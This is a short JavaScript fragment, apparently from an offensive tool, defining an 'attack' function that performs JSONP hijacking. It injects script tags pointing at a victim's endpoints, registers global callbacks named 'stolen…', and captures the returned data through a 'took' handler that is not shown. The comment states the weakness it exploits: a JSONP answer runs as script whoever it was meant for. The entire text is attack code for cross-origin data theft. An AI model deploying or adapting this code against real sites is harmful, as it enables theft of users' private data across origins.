// An answer that is a script runs here, whoever it was meant for.
const attack = (victim) => {
  const name = `stolen${victim.number}`;
  window[name] = (data) => took(victim, data);
  return each(victim.reads, (path) => within(2_000, loaded(Object.assign(document.createElement('script'), { src: `${at(victim, path)}?callback=${name}` }))));
};
